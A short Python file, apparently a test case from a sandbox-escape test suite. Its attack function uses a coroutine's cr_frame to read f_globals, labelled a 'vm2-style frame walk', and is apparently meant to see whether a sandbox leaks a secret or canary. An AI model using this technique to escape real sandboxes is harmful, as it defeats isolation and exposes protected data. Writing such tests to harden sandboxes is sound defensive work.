# mypy: ignore-errors
# Technique: coroutine `cr_frame.f_globals` (vm2-style frame walk via async function).
def attack(secret_path, canary_path):
    async def co():
        return 1

    c = co()
    try:
        return repr(c.cr_frame.f_globals)
    finally:
        c.close()
